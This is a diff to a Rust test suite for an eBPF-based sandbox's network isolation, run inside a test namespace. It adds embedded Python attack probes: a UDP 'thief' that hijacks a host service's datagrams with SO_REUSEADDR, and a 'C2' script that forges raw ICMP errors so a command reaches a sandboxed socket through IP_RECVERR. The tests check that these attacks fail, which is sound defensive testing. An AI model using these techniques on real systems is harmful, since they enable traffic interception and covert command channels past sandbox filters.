@@ -10,8 +10,15 @@
 //! (`cgroup_skb/ingress`, `sock_ops`, `HB_SOCK_PEER`), what it hears besides datagrams
 //! (ICMP errors), and whether its ports can take connections meant for someone else.
 //!
-//! Everything lives on `lo` in the test's own network namespace; "remote" addresses are
-//! documentation ranges, routed to `lo` where a packet must go somewhere a capture sees it.
+//! Everything lives in the test's own network namespace: addresses on `lo`, and the C2's
+//! IPv6 network (2001:db8:66::/64) routed to a tun device there whose only reader is the
+//! outside helper (IPv6 will not route a non-local prefix through `lo`; nothing leaves the
+//! namespace). Found here: a same-sandbox client with a foreign source (`IPV6_FREEBIND`,
+//! or a host's `ip_nonlocal_bind`) opened a TCP connection from the sandbox's listener to
+//! the C2; the resolver answered a query from that source to the C2; `SO_REUSEPORT` let a
+//! sandbox join a nobody host service's group; `SO_REUSEADDR` let a sandbox's UDP socket
+//! take a host service's datagrams. Open: the resolver on a `ip_nonlocal_bind` host, and
+//! ICMP errors as an inbound channel.
 
 use std::{
     io::{BufRead as _, BufReader, Write as _},
@@ -488,6 +495,198 @@ fn a_sandbox_cannot_join_a_host_services_reuseport_group() {
         );
     }
     env.wait_event("SO_REUSEPORT refused", |e| {
-        e["hook"] == "setsockopt" && e["reason"] == "reuseport"
+        e["hook"] == "setsockopt" && e["reason"] == "shared_port"
     });
+}
+
+/// A host UDP service (outside every sandbox, as root) on the wildcard address with
+/// `SO_REUSEADDR`, as many UDP daemons set it. Prints its port, then, when its stdin
+/// closes, `{"served": N}` (datagrams it received).
+const PY_HOST_UDP_SERVICE: &str = r#"
+import json, select, socket, sys
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+u.bind(("0.0.0.0", 0))
+print(u.getsockname()[1], flush=True)
+served = 0
+while True:
+    r, _, _ = select.select([u, sys.stdin], [], [])
+    if u in r:
+        u.recvfrom(2048); served += 1
+    if sys.stdin in r:
+        break
+print(json.dumps({"served": served}), flush=True)
+"#;
+
+/// In the sandbox: binds the service's port on the more specific address (the host's
+/// address its clients send to) with `SO_REUSEADDR`, which UDP lets any uid do beside a
+/// socket that set it too, and takes what arrives for three seconds.
+const PY_UDP_THIEF: &str = r#"
+import json, socket, sys, time
+host, port = sys.argv[1], int(sys.argv[2])
+res = {"stolen": []}
+try:
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    u.bind((host, port))
+    res["bound"] = True
+except OSError as e:
+    res["bound"] = str(e)
+    u = None
+print("ready", flush=True)
+end = time.time() + 3
+while u and time.time() < end:
+    u.settimeout(max(0.05, end - time.time()))
+    try:
+        res["stolen"].append(u.recvfrom(2048)[0].decode(errors="replace"))
+    except OSError:
+        pass
+print(json.dumps(res), flush=True)
+"#;
+
+/// A host UDP service bound to the wildcard address with `SO_REUSEADDR` lets any socket
+/// that sets it too bind the same port on a more specific address, and the kernel then
+/// delivers the datagrams sent to that address to the more specific socket. A sandbox
+/// that may receive (`inbound = true`) takes the service's datagrams; one that may not
+/// takes them and its ingress drops them: the service hears nothing.
+#[test]
+fn a_sandbox_cannot_take_a_host_udp_services_datagrams_with_a_more_specific_bind() {
+    let env = world_with("ar13-udpsteal", OPEN_POLICY, &[SERVICE4]);
+    for policy in ["open", "closed"] {
+        let mut service = Outside::spawn(PY_HOST_UDP_SERVICE, &[]);
+        let port = service.line();
+        let mut thief = hb_tests::sandboxed::Running::spawn(hb_tests::sandboxed::nobody_command(
+            &env,
+            policy,
+            &[],
+            &[python(), "-c", PY_UDP_THIEF, SERVICE4, &port],
+        ));
+        assert_eq!(thief.line(), "ready");
+        let secret = format!("secret{}", random_suffix());
+        let sock = std::net::UdpSocket::bind("0.0.0.0:0").expect("client");
+        for i in 0..10 {
+            sock.send_to(
+                format!("{secret}-{i}").as_bytes(),
+                (SERVICE4, port.parse::<u16>().expect("port")),
+            )
+            .expect("send");
+            std::thread::sleep(std::time::Duration::from_millis(20));
+        }
+        let said = thief.line();
+        let stolen: Value =
+            serde_json::from_str(&said).unwrap_or_else(|e| panic!("thief said {said:?}: {e}"));
+        let served = service.finish();
+        let took = stolen["stolen"].as_array().map_or(0, Vec::len);
+        println!(
+            "figure: policy {policy}: sandbox bound {}, took {took} of 10 datagrams; the service got {}",
+            stolen["bound"], served["served"]
+        );
+        assert_eq!(
+            took, 0,
+            "{policy}: the sandbox took the service's datagrams: {stolen}"
+        );
+        assert_eq!(
+            served["served"], 10,
+            "{policy}: the service's datagrams went elsewhere: sandbox {stolen}"
+        );
+    }
+    env.wait_event("SO_REUSEADDR on UDP refused", |e| {
+        e["hook"] == "setsockopt" && e["reason"] == "shared_port" && e["port"] == 0x0102
+    });
+}
+
+/// The C2's IPv4 address: sends from `lo`, never allowed.
+const C2_4: &str = "198.51.100.66";
+
+/// The C2 (root, outside): sends ICMP "port unreachable" errors from its own address,
+/// quoting a datagram from the sandbox's agreed port 40001 to its peer (port 40002)
+/// whose payload is the command. Prints `ready`, sends when its stdin gives a line, then
+/// `{"sent": N}`.
+const PY_C2_ICMP: &str = r#"
+import json, socket, struct, sys
+own, peer, command = sys.argv[1], sys.argv[2], sys.argv[3].encode()
+def csum(b):
+    if len(b) % 2: b += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+    while s >> 16: s = (s & 0xffff) + (s >> 16)
+    return ~s & 0xffff
+udp = struct.pack("!HHHH", 40001, 40002, 8 + len(command), 0) + command
+inner = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
+                    socket.inet_aton(own), socket.inet_aton(peer))
+inner = inner[:10] + struct.pack("!H", csum(inner)) + inner[12:] + udp
+icmp = struct.pack("!BBHI", 3, 3, 0, 0) + inner
+icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
+r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+r.bind((sys.argv[4], 0))
+print("ready", flush=True)
+sys.stdin.readline()
+for _ in range(3):
+    r.sendto(icmp, (own, 0))
+print(json.dumps({"sent": 3}), flush=True)
+"#;
+
+/// In the sandbox: a UDP socket on the agreed port, connected to an allowed peer, with
+/// `IP_RECVERR`; reads its error queue for three seconds. `{"heard": [payloads],
+/// "from": [offenders]}`.
+const PY_ERRQUEUE: &str = r#"
+import json, socket, struct, sys, time
+own = sys.argv[1]
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind((own, 40001))
+s.setsockopt(socket.SOL_IP, 11, 1)  # IP_RECVERR
+s.connect((own, 40002))
+print("ready", flush=True)
+res = {"heard": [], "from": []}
+end = time.time() + 3
+while time.time() < end:
+    try:
+        data, anc, _, _ = s.recvmsg(2048, 1024, socket.MSG_ERRQUEUE | socket.MSG_DONTWAIT)
+        res["heard"].append(data.decode(errors="replace"))
+        for level, kind, cdata in anc:
+            if len(cdata) >= 24:
+                res["from"].append(socket.inet_ntoa(cdata[20:24]))
+    except BlockingIOError:
+        time.sleep(0.05)
+    except OSError as e:
+        res.setdefault("errors", []).append(e.errno)
+print(json.dumps(res), flush=True)
+"#;
+
+/// ICMP errors reach a socket through no cgroup program (`icmp_rcv` → `__udp4_lib_err`
+/// → `ip_icmp_error` queues them on the socket's error queue; `sk_filter` never runs):
+/// the C2, which the sandbox may neither reach nor hear, sends "port unreachable" errors
+/// quoting a datagram of the sandbox's connected UDP socket, with the command as the
+/// quoted payload; with `IP_RECVERR` the sandbox reads the command and the C2's address.
+/// An inbound channel only (nothing goes out), against the promise that a sandbox's UDP
+/// sockets hear only their admitted peer.
+#[test]
+#[ignore = "open: ICMP errors reach a sandbox's error queue from any host; fix: refuse IP_RECVERR/IPV6_RECVERR (and RECVERR_RFC4884) in cgroup/setsockopt, which leaves the errno (sk_err) channel of a few bits per error"]
+fn icmp_errors_from_a_host_the_sandbox_may_not_hear_carry_nothing_to_it() {
+    let env = world_with("ar13-icmperr", "", &[C2_4]);
+    let command = format!("cmd-{}", random_suffix());
+    let mut reader = hb_tests::sandboxed::Running::spawn(hb_tests::sandboxed::nobody_command(
+        &env,
+        "closed",
+        &[],
+        &[python(), "-c", PY_ERRQUEUE, OWN4],
+    ));
+    assert_eq!(reader.line(), "ready");
+    let mut c2 = Outside::start(PY_C2_ICMP, &[OWN4, OWN4, &command, C2_4]);
+    if let Some(s) = c2.stdin.as_mut() {
+        s.write_all(b"go\n").expect("go");
+    }
+    let sent = c2.line();
+    let said = reader.line();
+    let heard: Value =
+        serde_json::from_str(&said).unwrap_or_else(|e| panic!("sandbox said {said:?}: {e}"));
+    let got = heard["heard"].as_array().map_or(0, |h| {
+        h.iter()
+            .filter(|p| p.as_str().is_some_and(|p| p.contains(&command)))
+            .count()
+    });
+    println!(
+        "figure: C2 {sent}; the sandbox read the command {got} time(s), from {}",
+        heard["from"]
+    );
+    assert_eq!(got, 0, "the C2's command reached the sandbox: {heard}");
 }
